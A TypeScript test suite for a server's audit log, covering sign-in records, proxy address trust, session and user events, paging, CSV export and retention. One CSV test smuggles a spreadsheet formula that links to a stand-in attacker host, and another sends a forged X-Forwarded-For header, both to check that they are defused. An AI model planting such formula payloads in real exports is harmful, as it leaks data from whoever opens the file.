import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { sql } from 'kysely';
import type { AuditEvent, AuditPage } from '../src/contract/audit.js';
import { loadConfig } from '../src/config/config.js';
import { openDatabase, type Db } from '../src/db/database.js';
import { userHomeDirPath } from '../src/runners/local/state-file.js';
import type { Api } from './support/api.js';
import { FakeRunner } from './support/fake-runner.js';
import { startTestSortie, type TestSortie } from './support/harness.js';
import { testDatabaseKind, testDatabaseUrl } from './support/postgres.js';
import { waitFor } from './support/wait.js';

// The audit log through the real server: each kind of event is written to SQLite with who
// did it, to what, and from which address (as Sortie decides it behind a proxy), and an
// admin reads it back in pages or as CSV.

const ADMIN_PASSWORD = 'audit-admin-password-1';
const USER_PASSWORD = 'audit-user-password-1';
/** The client's address as a trusted proxy (the loopback peer) reports it. */
const CLIENT = '203.0.113.7';
const viaProxy = { 'x-forwarded-for': CLIENT };

/** The database of the Sortie in `dir`, as the harness chose it (its SQLite file, or its PostgreSQL database). */
async function databaseOf(dir: string): Promise<Db> {
  return openDatabase(testDatabaseKind() === 'postgres' ? await testDatabaseUrl(dir) : `${dir}/sortie.db`);
}

/** Every event the filter selects, newest first, through the API's pages. */
async function events(admin: Api, query: Record<string, string> = {}): Promise<AuditEvent[]> {
  const all: AuditEvent[] = [];
  let cursor: string | null = null;
  do {
    const params: URLSearchParams = new URLSearchParams({ ...query, limit: '200', ...(cursor ? { cursor } : {}) });
    const res: { status: number; text: string; body: AuditPage } = await admin.request<AuditPage>('GET', `/api/admin/audit?${params}`);
    assert.equal(res.status, 200, res.text);
    all.push(...res.body.events);
    cursor = res.body.next_cursor;
  } while (cursor);
  return all;
}

/** Waits for the event that `match` picks (recording does not hold up the action, so it lands a moment later). */
async function eventWhere(admin: Api, what: string, match: (e: AuditEvent) => boolean, query: Record<string, string> = {}): Promise<AuditEvent> {
  return waitFor(async () => (await events(admin, query)).find(match), { what, timeoutMs: 10_000 });
}

describe('audit log on the local runner', () => {
  let sortie: TestSortie;
  let admin: Api;
  let adminId: string;
  let user: Api;
  let userId: string;

  before(async () => {
    sortie = await startTestSortie({
      name: 'audit-log',
      env: { SORTIE_AUTH: 'enabled', SORTIE_ADMIN_PASSWORD: ADMIN_PASSWORD, SORTIE_TRUSTED_PROXIES: '127.0.0.1' },
    });
    const signedIn = await sortie.api.with(viaProxy).signedIn('admin', ADMIN_PASSWORD);
    adminId = signedIn.tokens.user.id;
    admin = signedIn;
    userId = await admin.createUser('olivia', USER_PASSWORD);
    user = await sortie.api.with(viaProxy).signedIn('olivia', USER_PASSWORD);
  });

  after(() => sortie?.cleanup());

  test('sign-ins, failed sign-ins and sign-outs name the account and the client address', async () => {
    const signIn = await eventWhere(admin, 'the admin sign-in', (e) => e.action === 'auth.sign_in' && e.actor_id === adminId);
    assert.equal(signIn.actor_type, 'user');
    assert.equal(signIn.actor_name, 'admin');
    assert.equal(signIn.address, CLIENT);
    assert.deepEqual(signIn.details, { method: 'password' });

    assert.equal((await sortie.api.with(viaProxy).signIn('olivia', 'not-her-password')).status, 401);
    assert.equal((await sortie.api.with(viaProxy).signIn('nobody-here', 'whatever-password')).status, 401);
    const wrong = await eventWhere(admin, 'the wrong password', (e) => e.action === 'auth.sign_in_failed' && e.actor_id === userId);
    assert.equal(wrong.actor_name, 'olivia');
    assert.equal(wrong.address, CLIENT);
    assert.deepEqual(wrong.details, { method: 'password', reason: 'wrong_password' });
    const unknown = await eventWhere(admin, 'the unknown name', (e) => e.action === 'auth.sign_in_failed' && e.actor_name === 'nobody-here');
    assert.equal(unknown.actor_type, 'unknown');
    assert.equal(unknown.actor_id, null);
    assert.equal(unknown.details.reason, 'unknown_user');

    const other = await sortie.api.with(viaProxy).signedIn('olivia', USER_PASSWORD);
    assert.equal((await other.request('POST', '/api/auth/logout')).status, 204);
    const signOut = await eventWhere(admin, 'the sign-out', (e) => e.action === 'auth.sign_out' && e.actor_id === userId);
    assert.equal(signOut.address, CLIENT);
  });

  test('an X-Forwarded-For from a peer that is not a trusted proxy is not believed', async () => {
    // Only 127.0.0.1 is trusted here; 127.0.0.2 is another peer claiming to forward.
    assert.equal((await sortie.api.from('127.0.0.2').with({ 'x-forwarded-for': '198.51.100.1' }).signIn('olivia', 'forged-address-pw')).status, 401);
    const failed = await eventWhere(admin, 'the sign-in from 127.0.0.2', (e) => e.action === 'auth.sign_in_failed' && e.address === '127.0.0.2');
    assert.equal(failed.actor_name, 'olivia');
    assert.ok(!(await events(admin)).some((e) => e.address === '198.51.100.1'), 'the forged address is nowhere');
  });

  test('a launch, its stream opening and closing, and its end by the user are recorded with the viewer and the address', async () => {
    const session = await user.launch('xterm');
    await user.waitFor(session.id, 'running', 60_000);
    const launch = await eventWhere(admin, 'the launch', (e) => e.action === 'session.launch' && e.target_id === session.id);
    assert.deepEqual(
      { actor: launch.actor_id, name: launch.actor_name, type: launch.target_type, app: launch.target_name, address: launch.address, details: launch.details },
      { actor: userId, name: 'olivia', type: 'session', app: launch.target_name, address: CLIENT, details: { app_id: 'xterm', user_id: userId } },
    );

    const { viewer } = await sortie.openStream(session.id, { headers: { authorization: `Bearer ${user.token}`, ...viaProxy } });
    const opened = await eventWhere(admin, 'the stream open', (e) => e.action === 'session.stream_open' && e.target_id === session.id);
    assert.equal(opened.actor_id, userId);
    assert.equal(opened.address, CLIENT);
    viewer.close();
    const closed = await eventWhere(admin, 'the stream close', (e) => e.action === 'session.stream_close' && e.target_id === session.id);
    assert.equal(closed.actor_id, userId);
    assert.equal(closed.address, CLIENT);
    assert.equal(typeof closed.details.seconds, 'number');

    assert.equal((await user.end(session.id)).status, 200);
    const ended = await eventWhere(admin, 'the end', (e) => e.action === 'session.end' && e.target_id === session.id);
    assert.equal(ended.actor_id, userId);
    assert.equal(ended.address, CLIENT);
    assert.equal(ended.details.by, 'user');
    assert.equal(ended.details.status, 'terminated');
  });

  test('an admin ending someone else’s session is recorded as the admin', async () => {
    const session = await user.launch('xterm');
    await user.waitFor(session.id, ['creating', 'running']);
    assert.equal((await admin.end(session.id)).status, 200);
    const ended = await eventWhere(admin, 'the end by the admin', (e) => e.action === 'session.end' && e.target_id === session.id);
    assert.equal(ended.actor_id, adminId);
    assert.equal(ended.details.by, 'admin');
    assert.equal(ended.details.user_id, userId);
    assert.equal(ended.address, CLIENT);
  });

  test('app changes and the catalog file load are recorded', async () => {
    const load = await eventWhere(admin, 'the catalog load', (e) => e.action === 'catalog.load');
    assert.equal(load.actor_type, 'system');
    assert.equal(load.actor_name, 'system');
    assert.equal(load.address, null);
    assert.ok(typeof load.details.loaded === 'number' && load.details.loaded > 0);

    const app = { id: 'audited-app', name: 'Audited', launch_type: 'url', url: 'https://example.com/' };
    assert.equal((await admin.request('POST', '/api/apps', app)).status, 201);
    assert.equal((await admin.request('PUT', '/api/apps/audited-app', { ...app, name: 'Audited again' })).status, 200);
    assert.equal((await admin.request('DELETE', '/api/apps/audited-app')).status, 204);
    const changes = await waitFor(
      async () => {
        const found = (await events(admin, { action: 'app.*' })).filter((e) => e.target_id === 'audited-app');
        return found.length === 3 && found;
      },
      { what: 'three app events' },
    );
    assert.deepEqual(changes.map((e) => e.action), ['app.delete', 'app.update', 'app.create']);
    assert.ok(changes.every((e) => e.actor_id === adminId && e.address === CLIENT));
    assert.deepEqual(changes[1]!.details, { changed: ['name'] });
    assert.equal(changes[0]!.target_name, 'Audited again');
  });

  test('user changes are recorded: create, update, password, disable, enable, approvals, home deletion, delete', async () => {
    const id = await admin.createUser('pat', USER_PASSWORD);
    const patch = (body: object) => admin.request('PATCH', `/api/admin/users/${id}`, body);
    assert.equal((await patch({ role: 'admin', display_name: 'Pat' })).status, 200);
    assert.equal((await patch({ password: 'a-brand-new-password' })).status, 200);
    assert.equal((await patch({ disabled: true })).status, 200);
    assert.equal((await patch({ disabled: false })).status, 200);
    assert.equal((await admin.request('PUT', `/api/admin/users/${id}/approvals`, { app_ids: ['xterm'], categories: [] })).status, 200);
    mkdirSync(userHomeDirPath(sortie.stateDir, id), { recursive: true });
    assert.equal((await admin.request('DELETE', `/api/admin/users/${id}/home`)).status, 204);
    assert.equal((await admin.request('DELETE', `/api/admin/users/${id}`)).status, 204);

    const expected = ['user.delete', 'user.home_delete', 'user.approvals', 'user.enable', 'user.disable', 'user.password', 'user.update', 'user.create'];
    const found = await waitFor(
      async () => {
        const list = (await events(admin, { action: 'user.*' })).filter((e) => e.target_id === id);
        return list.length === expected.length && list;
      },
      { what: 'the user events' },
    );
    assert.deepEqual(found.map((e) => e.action), expected);
    assert.ok(found.every((e) => e.actor_id === adminId && e.address === CLIENT && e.target_type === 'user'));
    const byAction = new Map(found.map((e) => [e.action, e]));
    assert.deepEqual(byAction.get('user.update')!.details, { role: { from: 'user', to: 'admin' }, display_name: { from: 'pat', to: 'Pat' } });
    assert.deepEqual(byAction.get('user.approvals')!.details, { app_ids: ['xterm'], categories: [] });
    assert.equal(byAction.get('user.create')!.target_name, 'pat');
    assert.equal(byAction.get('user.delete')!.target_name, 'pat');
    assert.ok(!JSON.stringify(found).includes('a-brand-new-password'), 'no password in the log');
  });

  test('only admins may read the log: a user gets 403, nobody signed in 401', async () => {
    for (const path of ['/api/admin/audit', '/api/admin/audit.csv']) {
      assert.equal((await user.request('GET', path)).status, 403, path);
      assert.equal((await sortie.api.request('GET', path)).status, 401, path);
    }
  });

  test('filters by user, action and time, and pages newest first with a cursor', async () => {
    const all = await events(admin);
    assert.ok(all.length >= 20, `a good number of events (${all.length})`);
    for (let i = 1; i < all.length; i++) assert.ok(all[i - 1]!.at >= all[i]!.at, 'newest first');

    const hers = await events(admin, { actor: 'olivia' });
    assert.ok(hers.length > 0 && hers.every((e) => e.actor_name === 'olivia'));
    assert.deepEqual(await events(admin, { actor: userId }), hers, 'her id selects what her name does');
    const launches = await events(admin, { action: 'session.launch' });
    assert.ok(launches.length >= 2 && launches.every((e) => e.action === 'session.launch'));
    const sessions = await events(admin, { action: 'session.*' });
    assert.ok(sessions.every((e) => e.action.startsWith('session.')) && sessions.length > launches.length);

    const middle = all[Math.floor(all.length / 2)]!.at;
    const before = await events(admin, { to: middle });
    const since = await events(admin, { from: middle });
    assert.ok(before.every((e) => e.at < middle) && since.every((e) => e.at >= middle));
    assert.equal(before.length + since.length, all.length);

    // Three at a time, following next_cursor, gives the whole log once, in order.
    const paged: AuditEvent[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: { status: number; body: AuditPage } = await admin.request<AuditPage>('GET', `/api/admin/audit?limit=3${cursor ? `&cursor=${cursor}` : ''}`);
      assert.equal(res.status, 200);
      assert.ok(res.body.events.length <= 3);
      paged.push(...res.body.events);
      cursor = res.body.next_cursor;
      pages++;
    } while (cursor && pages < 1000);
    // Events recorded while paging (none: nothing else runs) would only add to the front.
    assert.deepEqual(paged.map((e) => e.id), (await events(admin)).map((e) => e.id));
  });

  test('bad filters and cursors answer 400 with what is wrong', async () => {
    const cases: [string, RegExp][] = [
      ['limit=0', /limit/],
      ['limit=201', /limit/],
      ['action=session.explode', /action/],
      ['from=yesterday', /from/],
      ['cursor=not-a-cursor', /cursor/],
      [`cursor=${Buffer.from(JSON.stringify(['sessions', '2026-01-01T00:00:00.000Z', 'x'])).toString('base64url')}`, /cursor/],
    ];
    for (const [query, message] of cases) {
      const res = await admin.request<{ message: string }>('GET', `/api/admin/audit?${query}`);
      assert.equal(res.status, 400, query);
      assert.match(res.body.message, message, query);
    }
  });

  test('the CSV export has the same events, and formulas a name could smuggle in are defused', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    assert.equal((await sortie.api.with(viaProxy).signIn(formula, 'whatever-password')).status, 401);
    await eventWhere(admin, 'the formula sign-in', (e) => e.actor_name === formula);
    for (const sign of ['+', '-', '@']) assert.equal((await sortie.api.signIn(`${sign}SUM(1,1)`, 'whatever-password')).status, 401);
    await eventWhere(admin, 'the @ sign-in', (e) => e.actor_name === '@SUM(1,1)');

    const res = await admin.request('GET', '/api/admin/audit.csv?action=auth.sign_in_failed');
    assert.equal(res.status, 200);
    assert.match(String(res.headers['content-type']), /^text\/csv/);
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="sortie-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.text.split('\r\n').filter(Boolean);
    assert.equal(lines[0], 'at,actor_type,actor_id,actor_name,action,target_type,target_id,target_name,address,details');
    assert.equal(lines.length - 1, (await events(admin, { action: 'auth.sign_in_failed' })).length);
    assert.ok(lines.some((l) => l.includes(`,unknown,,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",auth.sign_in_failed,`)), 'the = cell starts with an apostrophe');
    for (const sign of ['+', '-', '@']) assert.ok(lines.some((l) => l.includes(`,"'${sign}SUM(1,1)",`)), `the ${sign} cell starts with an apostrophe`);
    assert.ok(!lines.slice(1).some((l) => /,[=+\-@]/.test(l.replace(/,"'[=+\-@]/g, ''))), 'no cell starts with a formula sign');
  });

  test('a failed audit write is logged and the action goes on', async () => {
    const db = await databaseOf(sortie.dir);
    try {
      await sql`ALTER TABLE audit_events RENAME TO audit_events_away`.execute(db);
      const res = await sortie.api.signIn('olivia', USER_PASSWORD);
      assert.equal(res.status, 200, 'signing in works while the log cannot be written');
      assert.equal((await sortie.api.signIn('olivia', 'still-not-her-password')).status, 401, 'and so does refusing one');
    } finally {
      await sql`ALTER TABLE audit_events_away RENAME TO audit_events`.execute(db);
      await db.destroy();
    }
  });
});

describe('audit log: ends by the system', () => {
  let sortie: TestSortie;
  let runner: FakeRunner;

  before(async () => {
    runner = new FakeRunner({ events: 'manual' });
    // Sign-in off: everyone acts as "anonymous", an admin; sessions idle for 0.6 s end.
    sortie = await startTestSortie({ name: 'audit-system', runner, env: { SESSION_TIMEOUT: '0.01', SESSION_CLEANUP_INTERVAL: '0.005' } });
  });

  after(() => sortie?.cleanup());

  test('a failure, the app exiting and the idle timeout end sessions as the system, saying why', async () => {
    const failed = await sortie.api.launch('xterm');
    runner.fail(failed.id, 'the image could not be pulled');
    const exited = await sortie.api.launch('xterm');
    runner.ready(exited.id);
    runner.exit(exited.id, 'The app exited');
    const idle = await sortie.api.launch('xterm');
    runner.ready(idle.id);
    await sortie.api.waitFor(idle.id, 'terminated');

    const endOf = (id: string) => eventWhere(sortie.api, `the end of ${id}`, (e) => e.action === 'session.end' && e.target_id === id);
    const byFailure = await endOf(failed.id);
    assert.deepEqual([byFailure.actor_type, byFailure.actor_id, byFailure.actor_name, byFailure.address], ['system', null, 'system', null]);
    assert.equal(byFailure.details.by, 'failure');
    assert.equal(byFailure.details.reason, 'the image could not be pulled');
    const byRunner = await endOf(exited.id);
    assert.equal(byRunner.details.by, 'runner');
    assert.equal(byRunner.details.reason, 'The app exited');
    const byIdle = await endOf(idle.id);
    assert.equal(byIdle.details.by, 'idle_timeout');
    assert.equal(byIdle.actor_type, 'system');

    const launch = await eventWhere(sortie.api, 'a launch', (e) => e.action === 'session.launch' && e.target_id === idle.id);
    assert.equal(launch.actor_name, 'anonymous');
    assert.equal(launch.address, '127.0.0.1');
  });
});

describe('audit retention', () => {
  const DAY = 86_400_000;

  test('SORTIE_AUDIT_RETENTION_DAYS is 365 unless set; 0 keeps forever; nonsense is refused by name', () => {
    assert.equal(loadConfig({}).auditRetentionDays, 365);
    assert.equal(loadConfig({ SORTIE_AUDIT_RETENTION_DAYS: '0' }).auditRetentionDays, 0);
    assert.equal(loadConfig({ SORTIE_AUDIT_RETENTION_DAYS: '30' }).auditRetentionDays, 30);
    for (const bad of ['-1', 'forever']) assert.throws(() => loadConfig({ SORTIE_AUDIT_RETENTION_DAYS: bad }), /SORTIE_AUDIT_RETENTION_DAYS must be a number of days/);
  });

  test('events older than the retention are removed at start-up; with 0 none are', async () => {
    const first = await startTestSortie({ name: 'audit-retention', runner: new FakeRunner() });
    const dir = first.dir;
    await first.stop();
    const db = await databaseOf(dir);
    const insert = (id: string, daysAgo: number) =>
      db
        .insertInto('audit_events')
        .values({ id, at: new Date(Date.now() - daysAgo * DAY).toISOString(), actor_type: 'system', actor_id: null, actor_name: 'system', action: 'catalog.load', target_type: null, target_id: null, target_name: null, address: null, details: '{}' })
        .execute();
    const ids = async () => new Set((await db.selectFrom('audit_events').select('id').execute()).map((r) => r.id));
    await insert('0000000000000000000000000000a1', 40);
    await insert('0000000000000000000000000000a2', 20);
    await insert('0000000000000000000000000000a3', 5000);

    const forever = await startTestSortie({ name: 'audit-retention', dir, runner: new FakeRunner(), env: { SORTIE_AUDIT_RETENTION_DAYS: '0' } });
    await forever.stop();
    const kept = await ids();
    assert.ok(['0000000000000000000000000000a1', '0000000000000000000000000000a2', '0000000000000000000000000000a3'].every((id) => kept.has(id)), 'kept forever with 0');

    const month = await startTestSortie({ name: 'audit-retention', dir, runner: new FakeRunner(), env: { SORTIE_AUDIT_RETENTION_DAYS: '30' } });
    try {
      const left = await ids();
      assert.ok(!left.has('0000000000000000000000000000a1') && !left.has('0000000000000000000000000000a3'), 'older than 30 days: removed');
      assert.ok(left.has('0000000000000000000000000000a2'), 'younger: kept');
      assert.ok(left.size > 1, 'this start’s own events are there');
    } finally {
      await db.destroy();
      await month.cleanup();
      // The first Sortie made the folder: its cleanup removes it.
      await first.cleanup();
    }
  });
});
